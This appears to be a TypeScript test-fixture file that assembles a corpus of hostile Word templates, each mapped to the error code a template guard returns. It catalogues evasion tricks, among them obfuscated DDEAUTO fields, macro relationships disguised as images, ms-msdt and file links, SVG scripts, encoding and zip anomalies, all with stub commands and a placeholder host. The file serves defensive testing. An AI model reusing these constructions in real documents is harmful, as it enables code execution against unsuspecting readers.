import { strToU8, unzipSync, zipSync } from 'fflate'
import { houseFile, para, relations, section } from '../../support/house-file.ts'
import { oddZip, saidLocked, saidOfSize, withWrongSums } from '../../support/odd-zip.ts'

const usual = `${para('{corps}')}${section()}`
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** A template whose document has this relationship as well. */
const related = (relation: string, others: Readonly<Record<string, Uint8Array>> = {}): Uint8Array =>
  houseFile({ body: usual, relations: [relation], others })

const field = (inside: string): Uint8Array =>
  houseFile({
    body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${inside}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>${usual}`,
  })
const said = (...pieces: readonly string[]): string =>
  pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')

/** A template whose parts are changed after it was made. */
const changed = (change: (parts: Record<string, Uint8Array>) => void): Uint8Array => {
  const parts = unzipSync(houseFile({ body: usual }))
  change(parts)
  return zipSync(parts)
}
const rewritten = (path: string, from: string | RegExp, to: string): Uint8Array =>
  changed((parts) => {
    parts[path] = strToU8(
      Buffer.from(parts[path] ?? [])
        .toString()
        .replace(from, to),
    )
  })
const withPart = (path: string, content: string, type: string): Uint8Array =>
  changed((parts) => {
    const types = Buffer.from(parts['[Content_Types].xml'] ?? []).toString()
    const override = `<Override PartName="/${path}" ContentType="${type}"/></Types>`
    parts['[Content_Types].xml'] = strToU8(types.replace('</Types>', override))
    parts[path] = strToU8(content)
  })
const files = (): readonly (readonly [string, Uint8Array])[] => Object.entries(unzipSync(houseFile({ body: usual })))

const header = (inside: string): Uint8Array =>
  houseFile({
    body: `${para('{corps}')}${section('<w:headerReference w:type="default" r:id="header1"/>')}`,
    headers: [inside],
  })

const svg = (inside: string): Uint8Array =>
  withPart(
    'word/media/logo.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`,
    'image/svg+xml',
  )

const documentWith = (declaration: string, encode: (text: string) => Uint8Array = strToU8): Uint8Array =>
  changed((parts) => {
    const text = Buffer.from(parts['word/document.xml'] ?? []).toString()
    parts['word/document.xml'] = encode(text.replace(/<\?xml[^>]*\?>/, declaration))
  })
const utf16 = (text: string): Uint8Array => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

export interface HostileTemplate {
  readonly bytes: Uint8Array
  readonly code: string
  /** The part that the sentence names, when one is at fault. */
  readonly part?: string
}

const macros = 'house-template.macros'
const outside = 'house-template.outside'
const active = 'house-template.active-field'
const unknown = 'house-template.unknown-part'
const damaged = 'house-template.damaged'
const unusual = 'house-template.unusual'
const list = 'word/_rels/document.xml.rels'
const document = 'word/document.xml'

const corpus: Readonly<Record<string, readonly [bytes: Uint8Array, code: string, part?: string]>> = {
  // Programs.
  'macros under the name of a picture': [
    related(
      '<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/logo.png"/>',
      {
        'word/media/logo.png': strToU8('x'),
      },
    ),
    macros,
  ],
  'macros, their relationship spelt with a character reference': [
    related(
      '<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vba&#x50;roject" Target="media/logo.png"/>',
      {
        'word/media/logo.png': strToU8('x'),
      },
    ),
    macros,
  ],
  'a type with macros, spelt with a character reference': [
    rewritten('[Content_Types].xml', 'wordprocessingml.document.main+xml', 'word.document.macro&#69;nabled.main+xml'),
    macros,
  ],
  'a control': [related(`<Relationship Id="c" Type="${office}/control" Target="media/c.png"/>`), macros],
  'a form field that starts a macro': [
    houseFile({
      body: `<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="AutoOpen"/></w:ffData></w:fldChar></w:r>${said(' FORMTEXT ')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>${usual}`,
    }),
    macros,
  ],
  'buttons of the ribbon': [
    withPart(
      'customUI/customUI.xml',
      '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>',
      'application/vnd.ms-office.customUI+xml',
    ),
    unknown,
    'customUI/customUI.xml',
  ],
  'keys that start commands': [
    withPart('word/customizations.xml', '<wne:tcg xmlns:wne="x"/>', 'application/vnd.ms-word.keyMapCustomizations+xml'),
    unknown,
    'word/customizations.xml',
  ],
  'a program beside the pictures': [
    changed((parts) => {
      parts['word/media/logo.exe'] = strToU8('MZ')
    }),
    unknown,
    'word/media/logo.exe',
  ],
  'a program, declared': [withPart('word/logo.exe', 'MZ', 'application/x-msdownload'), unknown, 'word/logo.exe'],
  // What is fetched.
  'a linked picture, « External » spelt with a character reference': [
    related(
      `<Relationship Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="Exter&#110;al"/>`,
    ),
    outside,
    list,
  ],
  'a linked picture, with spaces around its signs': [
    related(
      `<Relationship Id="x" Type = "${office}/image" Target = "http://exemple.invalid/x" TargetMode = "External"/>`,
    ),
    outside,
    list,
  ],
  'a linked picture, on several lines': [
    related(
      `<Relationship\nId='x'\nType\n=\n'${office}/image'\nTarget='http://exemple.invalid/x'\nTargetMode\n=\n'External'\n/>`,
    ),
    outside,
    list,
  ],
  'a linked picture, its type spelt with character references': [
    related(
      `<Relationship Id="x" Type="${office}&#47;im&#97;ge" Target="http://exemple.invalid/x" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'a linked picture behind a greater-than sign between quotes': [
    related(`<Relationship Id="a>b" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External"/>`),
    outside,
    list,
  ],
  'relationships under another prefix': [
    rewritten(
      list,
      /<Relationships .*<\/Relationships>/s,
      `<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External"/></r:Relationships>`,
    ),
    unusual,
  ],
  'a relationship under another prefix among others': [
    related(
      `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'a list of relationships in capitals': [
    changed((parts) => {
      parts['word/_rels/DOCUMENT.XML.RELS'] = strToU8(
        relations(
          `<Relationship Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External"/>`,
        ),
      )
      delete parts[list]
    }),
    unusual,
  ],
  'a picture whose address has no mode': [
    related(`<Relationship Id="x" Type="${office}/image" Target="http://exemple.invalid/x.png"/>`),
    outside,
    list,
  ],
  'a picture on a server of files, without a mode': [
    related(`<Relationship Id="x" Type="${office}/image" Target="\\\\serveur\\partage\\x.png"/>`),
    outside,
    list,
  ],
  'a part that leaves the file': [
    related(`<Relationship Id="x" Type="${office}/image" Target="../../../x.png"/>`),
    outside,
    list,
  ],
  'a part that leaves the file, its dots in percents': [
    related(`<Relationship Id="x" Type="${office}/image" Target="%2e%2e/%2e%2e/x.png"/>`),
    outside,
    list,
  ],
  'another document to insert (altChunk)': [
    related(`<Relationship Id="x" Type="${office}/aFChunk" Target="x.html"/>`, { 'word/x.html': strToU8('<script/>') }),
    unknown,
  ],
  'another document to insert, from outside': [
    related(
      `<Relationship Id="x" Type="${office}/aFChunk" Target="http://exemple.invalid/x.html" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'a document made of others': [
    related(`<Relationship Id="x" Type="${office}/subDocument" Target="file:///x.docx" TargetMode="External"/>`),
    outside,
    list,
  ],
  'a frame of a web page': [
    related(`<Relationship Id="x" Type="${office}/frame" Target="http://exemple.invalid/" TargetMode="External"/>`),
    outside,
    list,
  ],
  'a transformation applied when it is saved': [
    related(
      `<Relationship Id="x" Type="${office}/transform" Target="http://exemple.invalid/x.xsl" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'an object of another program': [
    related(`<Relationship Id="x" Type="${office}/oleObject" Target="media/x.png"/>`, {
      'word/media/x.png': strToU8('x'),
    }),
    unknown,
    list,
  ],
  'a workbook inside': [
    related(`<Relationship Id="x" Type="${office}/package" Target="media/x.png"/>`, {
      'word/media/x.png': strToU8('x'),
    }),
    unknown,
    list,
  ],
  'a relationship of nobody’s': [
    related('<Relationship Id="x" Type="http://exemple.invalid/relationships/image" Target="media/x.png"/>', {
      'word/media/x.png': strToU8('x'),
    }),
    unknown,
    list,
  ],
  'an attached template, spelt with a character reference': [
    related(
      `<Relationship Id="x" Type="${office}/attached&#84;emplate" Target="http://exemple.invalid/x.dotm" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'recipients of a mailing, by a query': [
    houseFile({
      body: usual,
      settings: '<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>',
    }),
    outside,
    'word/settings.xml',
  ],
  'a picture of the old drawing, by its address': [
    header(
      '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://exemple.invalid/x.png"/></v:shape></w:pict></w:r></w:p>',
    ),
    outside,
    'word/header1.xml',
  ],
  'a background of the old drawing, on a server of files': [
    header('<w:p><w:r><w:pict><v:shape><v:fill type="frame" src="\\\\serveur\\x.png"/></v:shape></w:pict></w:r></w:p>'),
    outside,
    'word/header1.xml',
  ],
  'a drawing that fetches another': [
    svg('<image xlink:href="http://exemple.invalid/x.png"/>'),
    outside,
    'word/media/logo.svg',
  ],
  'a drawing with a program': [svg('<script>alert(1)</script>'), macros],
  // Links.
  'a link to a file': [
    related(
      `<Relationship Id="x" Type="${office}/hyperlink" Target="file:///c:/windows/x.exe" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'a link that is a program': [
    related(
      `<Relationship Id="x" Type="${office}/hyperlink" Target="java&#115;cript:alert(1)" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  'a link to a command of the system': [
    related(
      `<Relationship Id="x" Type="${office}/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>`,
    ),
    outside,
    list,
  ],
  // Fields.
  'a field spelt with character references': [field(said(' &#68;&#x44;EAUTO cmd ')), active, document],
  'a field in a literal stretch': [field(said('<![CDATA[ DDEAUTO cmd ]]>')), active, document],
  'a field with a comment in its name': [field(said(' DDE<!-- -->AUTO cmd ')), active, document],
  'a field under another prefix': [
    field(`<x:r xmlns:x="${word}"><x:instrText> DDEAUTO cmd </x:instrText></x:r>`),
    active,
    document,
  ],
  'a field without a prefix': [field(`<r xmlns="${word}"><instrText> DDE cmd </instrText></r>`), active, document],
  'a simple field between single quotes, with spaces': [
    houseFile({ body: `<w:p><w:fldSimple w:instr = ' DDE cmd '><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>${usual}` }),
    active,
    document,
  ],
  'a simple field behind another attribute': [
    houseFile({
      body: `<w:p><w:fldSimple w:dirty="a>b" w:instr="INCLUDETEXT &quot;http://exemple.invalid/x&quot;"/></w:p>${usual}`,
    }),
    active,
    document,
  ],
  'a field whose name another one gives': [
    field(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${said(' QUOTE 68 68 69 ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>${said('AUTO cmd')}`,
    ),
    active,
    document,
  ],
  'a field cut in runs, one of them said in text': [
    field(`${said(' D')}<w:r><w:t>D</w:t></w:r>${said('E cmd ')}`),
    active,
    document,
  ],
  'a field that fetches a picture, in a header': [
    header(
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${said(' includePICTURE "http://exemple.invalid/x" \\d ')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ),
    active,
    'word/header1.xml',
  ],
  'a field that sends words to the printer': [field(said(' PRINT "x" ')), active, document],
  'a field that holds an object': [field(said(' EMBED Package ')), active, document],
  'a field of nobody’s': [field(said(' HTMLCONTROL x ')), active, document],
  'a button that starts a macro': [field(said(' MACROBUTTON AutoOpen cliquez ')), active, document],
  'a link, as a field, to a file': [field(said(' HYPERLINK "file:///c:/x.exe" ')), active, document],
  'a link, as a field, whose address another one gives': [
    field(
      `${said(' HYPERLINK ')}<w:r><w:fldChar w:fldCharType="begin"/></w:r>${said(' DOCPROPERTY x ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    ),
    active,
    document,
  ],
  'a link, as a field, to a file of a server, without quotes': [
    field(said(' HYPERLINK \\\\serveur\\partage\\x.exe ')),
    active,
    document,
  ],
  'a link, as a field, whose address follows a switch': [
    field(said(' HYPERLINK \\o "Aide" "file:///c:/x.exe" ')),
    active,
    document,
  ],
  'a link, as a field, with two addresses': [
    field(said(' HYPERLINK "https://exemple.fr" "file:///c:/x.exe" ')),
    active,
    document,
  ],
  'a link, as a field, to a file, without a space': [field(said(' HYPERLINK"file:///c:/x.exe" ')), active, document],
  'a link, as a field, to a file of a server, its signs doubled': [
    field(said(' HYPERLINK "\\\\\\\\serveur\\\\x.exe" ')),
    active,
    document,
  ],
  'a field that never comes to its end': [field(said(` HYPERLINK ${'\\o x '.repeat(10_000)}`)), active, document],
  'a field whose name is between quotes': [field(said(' "DDEAUTO" cmd ')), active, document],
  'a field whose own data lead to a program': [
    houseFile({
      body: `<w:p><w:r><w:fldChar w:fldCharType="begin"><w:fldData>${Buffer.from('c:\\x.exe', 'utf16le').toString('base64')}</w:fldData></w:fldChar></w:r>${said(' PAGEREF _Toc1 ')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>${usual}`,
    }),
    outside,
    document,
  ],
  'a smart tag that leads to a file': [
    houseFile({ body: usual, settings: '<w:smartTagType w:name="a" w:url="file:///c:/x.exe"/>' }),
    outside,
    'word/settings.xml',
  ],
  'a field that another name of its instruction hides': [
    header(
      `<w:p><w:fldSimple xmlns:x="urn:x" w:instr="DDE cmd" x:instr="PAGE"/></w:p><w:p><w:fldSimple xmlns:x="urn:x" x:instr="PAGE" w:instr="DDE cmd"/></w:p>`,
    ),
    active,
    'word/header1.xml',
  ],
  'a field that an instruction without a prefix hides': [
    header('<w:p><w:fldSimple w:instr="DDEAUTO cmd" instr="PAGE"/></w:p>'),
    damaged,
    'word/header1.xml',
  ],
  'a linked picture that other names of its address hide': [
    related(
      `<Relationship xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships" Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External" q:Target="media/x.png" q:TargetMode="Internal"/>`,
    ),
    damaged,
    list,
  ],
  'a field whose first word only some programs read': [
    field(
      `<mc:AlternateContent><mc:Choice Requires="v">${said('PAGE ')}</mc:Choice></mc:AlternateContent>${said('DDEAUTO cmd')}`,
    ),
    active,
    document,
  ],
  'a field whose first word may be left aside': [
    field(`<x:r xmlns:x="urn:x" mc:Ignorable="x"><x:instrText>PAGE </x:instrText></x:r>${said('DDEAUTO cmd')}`),
    active,
    document,
  ],
  'a field whose first word was taken out by a change': [
    field(
      `<w:del w:id="1" w:author="x"><w:r><w:delInstrText>QUOTE </w:delInstrText></w:r></w:del>${said('DDEAUTO cmd')}`,
    ),
    active,
    document,
  ],
  'a field that ends for some programs only': [
    field(
      `${said('PAGE ')}<mc:AlternateContent><mc:Choice Requires="v"><w:r><w:fldChar w:fldCharType="separate"/></w:r></mc:Choice></mc:AlternateContent>${said(' DDE cmd')}`,
    ),
    active,
    document,
  ],
  // What reads XML in another way than the guard.
  'a header behind blanks': [
    changed((parts) => {
      parts['word/header9.xml'] = strToU8(
        `${' '.repeat(41)}<w:hdr xmlns:w="${word}"><w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:hdr>`,
      )
    }),
    active,
    'word/header9.xml',
  ],
  'a header between quotes of an instruction': [
    changed((parts) => {
      parts['word/header9.xml'] = strToU8(
        `<w:hdr xmlns:w="${word}"><?x "?><w:p><w:fldSimple w:instr="DDE cmd"/></w:p><?x "?></w:hdr>`,
      )
    }),
    active,
    'word/header9.xml',
  ],
  'a header whose first bytes and declaration differ': [
    changed((parts) => {
      const hidden = utf16(`<?xml version="1.0" encoding="windows-1252"?><w:hdr xmlns:w="${word}"/>`)
      parts['word/header9.xml'] = hidden
    }),
    damaged,
    'word/header9.xml',
  ],
  'a header in an encoding that it declares': [
    changed((parts) => {
      parts['word/header9.xml'] = strToU8(
        `<?xml version="1.0" encoding="iso-2022-jp"?><w:hdr xmlns:w="${word}"><w:p/></w:hdr>`,
      )
    }),
    damaged,
    'word/header9.xml',
  ],
  'a header in an encoding that it declares after many blanks': [
    changed((parts) => {
      parts['word/header9.xml'] = strToU8(
        `<?xml version="1.0"${' '.repeat(500)}encoding="iso-2022-jp"?><w:hdr xmlns:w="${word}"><w:p/></w:hdr>`,
      )
    }),
    damaged,
    'word/header9.xml',
  ],
  'a header that passes for data, by the case of its path': [
    changed((parts) => {
      parts['word/Header9.xml'] = strToU8(
        `<w:hdr xmlns:w="${word}"><w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:hdr>`,
      )
      const others = `<Relationship Id="h9" Type="${office}/header" Target="header9.xml"/><Relationship Id="d9" Type="${office}/customXml" Target="Header9.xml"/></Relationships>`
      parts[list] = strToU8(
        Buffer.from(parts[list] ?? [])
          .toString()
          .replace('</Relationships>', others),
      )
    }),
    active,
    'word/Header9.xml',
  ],
  'a header under the type of a picture': [
    related(`<Relationship Id="h9" Type="${office}/header" Target="media/x.png"/>`, {
      'word/media/x.png': strToU8('+ADw-w:hdr+AD4-'),
    }),
    unknown,
    list,
  ],
  // Elements that no list holds.
  'a film of the web': [
    header(
      '<w:p><w:r><w:drawing><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://exemple.invalid&quot;/>"/></w:drawing></w:r></w:p>',
    ),
    unknown,
    'word/header1.xml',
  ],
  'a schema to fetch': [
    houseFile({
      body: usual,
      settings:
        '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:schemaLocation="http://exemple.invalid/x.xsd"/></sl:schemaLibrary>',
    }),
    unknown,
    'word/settings.xml',
  ],
  'a text that data of another program give, with their own looks': [
    houseFile({
      body: `<w:sdt><w:sdtPr><w15:dataBinding xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" w15:xpath="/x"/></w:sdtPr><w:sdtContent>${para('x')}</w:sdtContent></w:sdt>${usual}`,
    }),
    unknown,
    document,
  ],
  'an element of nobody’s': [houseFile({ body: `<x:fetch xmlns:x="urn:x"/>${usual}` }), unknown, document],
  'a drawing that starts a program when it is shown': [svg('<g onload="alert(1)"/>'), macros],
  'a drawing whose looks are fetched': [
    svg('<style>@import "http://exemple.invalid/x.css";</style>'),
    outside,
    'word/media/logo.svg',
  ],
  'a drawing filled from outside': [
    svg('<rect style="fill: u\\72l(http://exemple.invalid/x)"/><rect fill="url( \'http://exemple.invalid/x\')"/>'),
    outside,
    'word/media/logo.svg',
  ],
  'an old drawing whose looks are fetched': [
    header('<w:p><w:r><w:pict><v:shape style="behavior: u\\72l(http://exemple.invalid/x)"/></w:pict></w:r></w:p>'),
    outside,
    'word/header1.xml',
  ],
  'relationships under the type of a font': [
    changed((parts) => {
      const types = Buffer.from(parts['[Content_Types].xml'] ?? []).toString()
      const override = `<Override PartName="/word/_rels/header9.xml.rels" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/></Types>`
      parts['[Content_Types].xml'] = strToU8(types.replace('</Types>', override))
      parts['word/_rels/header9.xml.rels'] = strToU8(
        relations(
          `<Relationship Id="x" Type="${office}/image" Target="http://exemple.invalid/x" TargetMode="External"/>`,
        ),
      )
    }),
    outside,
    'word/_rels/header9.xml.rels',
  ],
  'a drawing that changes where it leads': [
    svg('<set attributeName="href" to="http://exemple.invalid/x"/>'),
    unknown,
    'word/media/logo.svg',
  ],
  'a drawing with a page in it': [svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'), macros],
  // The package.
  'a part that climbs out': [oddZip(...files(), ['../../../x.xml', '<x/>']), damaged, '../../../x.xml'],
  'a part at the root of the disk': [oddZip(...files(), ['/etc/x.xml', '<x/>']), damaged, '/etc/x.xml'],
  'a document twice': [oddZip(...files(), [document, '<x/>']), damaged, document],
  'a document twice, once in capitals': [
    oddZip(...files(), ['word/Document.xml', '<x/>']),
    damaged,
    'word/Document.xml',
  ],
  'parts said to be locked': [saidLocked(houseFile({ body: usual })), 'house-template.password'],
  'sizes that lie': [saidOfSize(houseFile({ body: usual }), 4), damaged],
  'sums that lie': [withWrongSums(houseFile({ body: usual })), damaged],
  'words of its own (DOCTYPE)': [
    documentWith('<!DOCTYPE w:document [<!ENTITY a "DDEAUTO"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'),
    damaged,
    document,
  ],
  'a document in UTF-16': [documentWith('<?xml version="1.0" encoding="UTF-16"?>', utf16), 'house-template.not-word'],
  'a header in UTF-16 with a field that fetches': [
    changed((parts) => {
      parts['word/header9.xml'] = utf16(`<w:hdr xmlns:w="${word}"><w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:hdr>`)
    }),
    active,
    'word/header9.xml',
  ],
  'an encoding that only some know': [documentWith('<?xml version="1.0" encoding="UTF-7"?>'), damaged, document],
  'a document that is not closed': [rewritten(document, '</w:body>', '</w:body><w:p>'), damaged, document],
  'a document without end': [
    houseFile({ body: `${'<w:sdt><w:sdtContent>'.repeat(5000)}${'</w:sdtContent></w:sdt>'.repeat(5000)}${usual}` }),
    damaged,
    document,
  ],
  'two documents': [
    rewritten(
      '_rels/.rels',
      '</Relationships>',
      `<Relationship Id="b" Type="${office}/officeDocument" Target="word/other.xml"/></Relationships>`,
    ),
    'house-template.not-word',
  ],
  'a type said twice': [
    rewritten('[Content_Types].xml', '</Types>', '<Default Extension="XML" ContentType="application/xml"/></Types>'),
    damaged,
    '[Content_Types].xml',
  ],
}

/** Templates made to harm whoever opens what is written in them, by the way they take. */
export const hostileTemplates: Readonly<Record<string, HostileTemplate>> = Object.fromEntries(
  Object.entries(corpus).map(([name, [bytes, code, part]]) => [
    name,
    part === undefined ? { bytes, code } : { bytes, code, part },
  ]),
)
